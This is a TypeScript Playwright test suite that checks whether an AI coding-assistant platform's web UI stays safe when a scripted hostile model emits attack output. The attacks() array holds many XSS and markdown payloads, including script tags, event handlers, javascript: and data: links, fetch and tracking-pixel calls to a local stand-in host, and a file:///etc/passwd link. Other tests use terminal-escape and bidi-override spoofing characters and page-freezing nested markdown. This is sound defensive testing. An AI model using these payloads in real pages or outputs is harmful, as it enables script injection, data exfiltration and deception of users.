import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Locator, Page } from 'playwright-core'
import type { Reply } from '@codelab/demo-model/reply'
import { launchChromium } from '../../support/chromium.ts'
import { startPlatform, type StartedPlatform } from '../../support/platform.ts'
import { calls, says } from '../../support/vendors/replies.ts'
import type { StandIn } from '../../support/vendors/stand-in.ts'
import { snapshotOf } from '../../support/snapshot.ts'
import { until } from '../../support/until.ts'
import { startLargeVendor } from './large-pieces.ts'
import { busyPeriods, isFrozen, openWindow, signIn, type Window } from './window.ts'
import { beginByButton, messageBox, say, turnEnds } from '../talk.ts'

/** A model that wants to run scripts, to call home, to deceive the eye and to choke the page. Real engine and platform between. */
let vendor: StandIn
let foreign: Server
let foreignUrl: string
let foreignHits = 0
let platform: StartedPlatform
let browser: Browser
let window: Window
let page: Page
let leaving: string[] = []
let complaints: string[] = []

beforeAll(async () => {
  vendor = await startLargeVendor({ script: says('Ready.') })
  foreign = createServer((_, response) => {
    foreignHits += 1
    response.end()
  })
  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve))
  foreignUrl = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`
  platform = await startPlatform({
    env: {
      OPENAI_API_KEY: 'sk-openai',
      OPENAI_BASE_URL: `${vendor.url}/v1`,
      CODELAB_DEFAULT_MODEL: 'gpt-4o',
      CODELAB_FALLBACK_MODELS: '',
      MAX_STEPS: '3',
      // What the model says next is not to be taken for a summary.
      COMPACTION: 'off',
    },
  })
  browser = await launchChromium()
  window = await openWindow(browser, {
    server: platform.ready.gateway,
    files: { 'esc\u001B[31m.txt': 'x', 'right\u202Egnp.txt': 'x' },
  })
  ;({ page } = window)
  page.setDefaultTimeout(30_000)
  page.on('request', (request) => {
    if (!request.url().startsWith(new URL(page.url()).origin)) leaving.push(request.url())
  })
  page.on('dialog', (dialog) => {
    complaints.push(`a dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('pageerror', (error) => void complaints.push(error.message))
  page.on('popup', (popup) => void leaving.push(popup.url()))
  await signIn(page, platform.ready)
}, 180_000)

afterAll(async () => {
  await window?.close()
  await browser?.close()
  await platform?.remove()
  await vendor?.close()
  foreign?.close()
}, 60_000)

beforeEach(async () => {
  ;[leaving, complaints, foreignHits] = [[], [], 0]
  await beginByButton(page)
  await busyPeriods(page)
}, 60_000)
afterEach(() => {
  expect(leaving).toEqual([])
  expect(complaints).toEqual([])
  expect(foreignHits).toBe(0)
})

const log = () => page.getByRole('log')
const answer = () => log().getByRole('article', { name: 'CodeLab' }).last()
const approval = () => page.getByRole('heading', { name: /CodeLab wants to use/ })
const effect = (): Locator => page.getByRole('main')
/** What the model answers to a person; after its tools it has nothing more to say. */
const plays = (reply: Reply) =>
  vendor.play(({ messages }) => (messages.at(-1)?.role === 'tool' ? says('Done.') : reply))

const attacks = () => [
  `<script>window.ran = 1; fetch('${foreignUrl}/script')</script>`,
  `<img src="${foreignUrl}/img" onerror="window.ran = 2">`,
  `<svg onload="window.ran = 3"><use href="${foreignUrl}/use"/></svg>`,
  `<iframe src="${foreignUrl}/frame" srcdoc="<script>parent.ran = 4</script>"></iframe>`,
  `<a href="javascript:window.ran=5" onclick="window.ran=5">html link</a>`,
  `<link rel="stylesheet" href="${foreignUrl}/css"><style>@import url(${foreignUrl}/import)</style>`,
  `<form action="${foreignUrl}/form"><button autofocus onfocus="window.ran = 6">x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${foreignUrl}/refresh"><base href="${foreignUrl}/">`,
  `<object data="${foreignUrl}/object"></object><embed src="${foreignUrl}/embed">`,
  `<video poster="${foreignUrl}/poster" src="${foreignUrl}/video" autoplay></video>`,
  `![pixel](${foreignUrl}/pixel?secret=1)`,
  `![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `![ref][tracker]\n\n[tracker]: ${foreignUrl}/reference`,
  `[a script](javascript:window.ran=7)`,
  `[upper](JaVaScRiPt:window.ran=8)`,
  `[entity](&#106;avascript:window.ran=9)`,
  `[tab](java\tscript:window.ran=10)`,
  `[data](data:text/html,<script>opener.ran=11</script>)`,
  `[blob](blob:${foreignUrl}/x) [file](file:///etc/passwd) [own](codelab://open?folder=/)`,
  `[vb](vbscript:msgbox) [relative](/api/v1/state) [other](//127.0.0.1/x)`,
  `<javascript:window.ran=12> <data:text/html,x>`,
  `[web](${foreignUrl}/only-by-a-click "title\\" onmouseover=window.ran=13")`,
  '```html\n<script>window.ran = 14</script>\n```',
  '```"><script>window.ran=15</script>\ncode\n```',
  `| a |\n|---|\n| <img src=x onerror=window.ran=16> |`,
  `footnote[^1]\n\n[^1]: <img src="${foreignUrl}/footnote">`,
  'the last line',
]

test('markdown with scripts, handlers, script links and remote pictures is text: nothing runs, nothing is fetched', async () => {
  plays(says(attacks().join('\n\n')))
  await say(page, 'hello')
  await answer().getByText('the last line').waitFor()
  await turnEnds(page)
  const made = await page.evaluate<{ active: string[]; handlers: string[]; links: string[] }>(`
    (() => {
      const inside = [...document.querySelectorAll('[role=log] article *')]
      const names = 'script,iframe,object,embed,link,style,form,meta,base,img,video,audio,source,use,input,button'
      const ours = (element) => element.closest('button') || element.closest('svg.lucide')
      return {
        active: inside.filter((one) => one.matches(names) && !ours(one)).map((one) => one.outerHTML),
        handlers: inside.flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith('on'))),
        links: [...document.querySelectorAll('[role=log] a[href]')].map((one) => one.protocol),
      }
    })()`)
  expect(made.active).toEqual([])
  expect(made.handlers).toEqual([])
  expect(new Set(made.links)).toEqual(new Set(['http:']))
  // A person sees what the model tried.
  await answer()
    .getByText(`<script>window.ran = 1; fetch('${foreignUrl}/script')</script>`)
    .waitFor()
  await answer().getByText(`[pixel: ${foreignUrl}/pixel?secret=1]`).waitFor()
  for (const name of ['a script', 'upper', 'data', 'html link'])
    await answer().getByText(name, { exact: false }).first().click({ force: true })
  expect(await page.evaluate('window.ran')).toBeUndefined()
  expect(new URL(page.url()).pathname).toBe('/')
}, 60_000)

test('terminal escapes and marks that turn the reading direction are seen as code points', async () => {
  plays(
    says(
      'before \u001B[2J\u001B]0;owned\u0007after\n\n```js\nif (admin\u202E \u2066// only\u2069 \u2066) {\n```\n\nend',
    ),
  )
  await say(page, 'hello')
  await answer().getByText('before ⟨U+001B⟩[2J⟨U+001B⟩]0;owned⟨U+0007⟩after').waitFor()
  await answer().getByText('if (admin⟨U+202E⟩ ⟨U+2066⟩').waitFor()
  const row = (path: string) => page.locator(`[role=treeitem] [data-path="${path}"]`)
  expect(await row('esc\u001B[31m.txt').innerText()).toContain('U+001B')
  expect(await row('right\u202Egnp.txt').innerText()).toContain('U+202E')
}, 60_000)

/** By its name, with the word that tells this answer from the one before it. */
const nested: [string, (deep: string) => string][] = [
  ['quotes in quotes', (deep) => `${'> '.repeat(9_000)}${deep}`],
  ['lists in lists', (deep) => `${'- '.repeat(9_000)}${deep}`],
  ['brackets', (deep) => `${'['.repeat(18_000)}${deep}`],
  ['stars', (deep) => `${'*a **a '.repeat(2_500)}${deep}`],
  ['an endless table', (deep) => `|${'a|'.repeat(4_500)}\n|${'-|'.repeat(4_500)}\n|${deep}|`],
  ['code marks', (deep) => `${'`'.repeat(9_000)} ${deep} ${'`'.repeat(8_999)}`],
]
test('markdown that breaks its readers stands as it was written, and the page lives', async () => {
  for (const [index, [name, text]] of nested.entries()) {
    const deep = `deep${index}`
    plays(says(text(deep)))
    await say(page, name)
    await answer().getByText(deep).last().waitFor({ state: 'attached' })
    await turnEnds(page)
    const busy = await busyPeriods(page)
    console.log(`${name}: longest task ${busy.longest} ms (${busy.alone} alone)`)
    expect(isFrozen(busy)).toBe(false)
  }
  await messageBox(page).fill('still here')
  expect(await messageBox(page).inputValue()).toBe('still here')
}, 120_000)

test('5 MiB of one line come and go without a frozen page; the whole can be asked for', async () => {
  const line = 'x'.repeat(5 * 1024 * 1024)
  plays(says(line))
  await say(page, 'one line')
  await messageBox(page).fill('typed meanwhile')
  const more = answer().getByRole('button', { name: /^Show more \([\d,]+ characters left\)$/ })
  await until(
    'the whole line',
    async () => (await more.allTextContents()).some((name) => name.includes('5,192,880')),
    120_000,
  )
  const streaming = await busyPeriods(page)
  await more.click()
  await answer()
    .getByRole('button', { name: /5,142,880 characters left/ })
    .waitFor()
  const shown = await busyPeriods(page)
  expect(await messageBox(page).inputValue()).toBe('typed meanwhile')
  // The conversation as it is read again.
  await page.goto(await window.engine.newEntry())
  await page
    .getByRole('navigation', { name: 'Conversations' })
    .getByText('one line')
    .first()
    .click()
  await more.waitFor()
  const again = await busyPeriods(page)
  console.log(
    `5 MiB of one line: longest task ${streaming.longest} ms (${streaming.alone} alone) while it came, ${shown.longest} ms (${shown.alone} alone) for more of it, ${again.longest} ms (${again.alone} alone) read again`,
  )
  expect([streaming, shown, again].filter(isFrozen)).toEqual([])
}, 180_000)

test('names with line feeds and turned reading directions are code points in the approval', async () => {
  plays(
    calls([
      ['write_file', { path: 'a\nb\u202Egnp.txt', content: 'x\u200B\u202Ey' }],
      ['move_file', { path: 'README.md', to: 'in\u2067voice\t\u2069.md' }],
      ['execute_command', { argv: ['echo', 'one\ntwo', '\u001B[8mhidden', 'a\u202Eb'] }],
    ]),
  )
  await say(page, 'hello')
  const expected = [
    ['write_file', ['U+000A', 'U+202E', 'U+200B']],
    ['move_file', ['U+2067', 'U+0009', 'U+2069']],
    ['execute_command', ['U+000A', 'U+001B', 'U+202E']],
  ] as const
  for (const [tool, codes] of expected) {
    await page.getByRole('heading', { name: `CodeLab wants to use ${tool}` }).waitFor()
    for (const code of codes) await effect().getByText(code).first().waitFor()
    // No such character is left as it is.
    expect(await effect().innerText()).not.toMatch(
      /(?![\n\t])[\p{Cc}\u200B\u202A-\u202E\u2066-\u2069]/u,
    )
    await page.getByRole('button', { name: 'Reject', exact: true }).click()
  }
  await answer().getByText('Done.').waitFor()
}, 120_000)

test('arguments of megabytes are shown in parts, to their end, and can be rejected', async () => {
  const word = `begin${'w'.repeat(32_700)}end`
  const huge: [string, object][] = [
    ['write_file', { path: 'huge.txt', content: 'c'.repeat(1_048_576) }],
    ['write_file', { path: 'hidden.txt', content: '\u202E'.repeat(300_000) }],
    ['execute_command', { argv: ['echo', ...Array.from({ length: 120 }, () => word)] }],
    [
      'edit_file',
      {
        path: 'README.md',
        edits: Array.from({ length: 200 }, (_, at) => ({
          old: `no ${at}`,
          new: 'n'.repeat(9_000),
        })),
      },
    ],
  ]
  const before = await snapshotOf(window.folder)
  for (const [tool, args] of huge) {
    plays(calls([[tool, args]]))
    await say(page, tool)
    await page.getByRole('heading', { name: `CodeLab wants to use ${tool}` }).waitFor()
    await until('the preview', () => page.getByRole('button', { name: /Approve once/ }).isEnabled())
    if (tool === 'execute_command') {
      const first = effect().getByRole('listitem').filter({ hasText: 'begin' }).first()
      const more = first.getByRole('button', { name: /Show more/ })
      while ((await more.count()) > 0) await more.click()
      // Not by an expectation of the word itself: its failure would be as long.
      expect((await first.innerText()).trim() === word).toBe(true)
    }
    const busy = await busyPeriods(page)
    console.log(
      `${JSON.stringify(args).length} characters for ${tool}: longest task ${busy.longest} ms (${busy.alone} alone)`,
    )
    expect(isFrozen(busy)).toBe(false)
    await page.getByRole('button', { name: 'Reject', exact: true }).click()
    await approval().waitFor({ state: 'detached' })
    await turnEnds(page)
    await answer().getByText('Done.').waitFor()
  }
  expect(await snapshotOf(window.folder)).toEqual(before)
}, 180_000)
